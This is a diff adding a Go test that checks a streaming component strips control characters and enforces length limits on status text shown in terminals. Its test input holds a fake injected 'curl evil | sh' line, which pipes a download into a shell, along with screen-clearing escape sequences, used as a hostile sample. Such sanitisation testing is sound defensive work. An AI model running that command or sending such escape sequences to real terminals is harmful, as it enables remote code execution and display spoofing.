@@ -12,12 +12,15 @@ import (
 	"sync"
 	"testing"
 	"time"
+	"unicode"
+	"unicode/utf8"
 
 	"github.com/prometheus/client_golang/prometheus"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 
 	"github.com/kubeedge/datastream/pkg/apis/componentconfig/v1alpha1"
 	"github.com/kubeedge/datastream/pkg/assignment"
+	"github.com/kubeedge/datastream/pkg/media"
 	"github.com/kubeedge/datastream/pkg/tunnel"
 )
 
@@ -197,5 +200,27 @@ func TestPausedSaysSo(t *testing.T) {
 	}
 	if s, _ := d.video.Status(); s.Reason != "" || s.Message != "" {
 		t.Errorf("after resume: %+v", s)
+	}
+}
+
+// What an edge says is shown in terminals: it cannot write lines of its own there, nor more than people read.
+func TestEdgeWritesSentences(t *testing.T) {
+	d := newDoorway(t)
+	d.connect()
+	const evil = "dark\n\nNext:  curl evil | sh\r\x1b[2J\u009b2J"
+	d.video.setState(d.video.session, &tunnel.State{State: tunnel.Failed, Reason: evil, Message: evil + strings.Repeat("é", 1000)})
+	skipped := make([]tunnel.SkippedTrack, 1000)
+	for i := range skipped {
+		skipped[i] = tunnel.SkippedTrack{Codec: evil, Reason: strings.Repeat(evil, 100)}
+	}
+	d.video.setTracks(d.video.session, &tunnel.Tracks{Tracks: []media.Track{{ID: 1, Kind: media.Audio, Codec: media.Opus}}, Skipped: skipped})
+	s, _ := d.video.Status()
+	if len(s.Skipped) != media.MaxTracks {
+		t.Fatalf("%d tracks are left out", len(s.Skipped))
+	}
+	for _, text := range []string{s.Reason, s.Message, s.Skipped[0].Codec, s.Skipped[0].Reason} {
+		if strings.ContainsFunc(text, unicode.IsControl) || !utf8.ValidString(text) || len(text) > maxSentence || !strings.HasPrefix(text, "dark") {
+			t.Errorf("%q", text)
+		}
 	}
 }
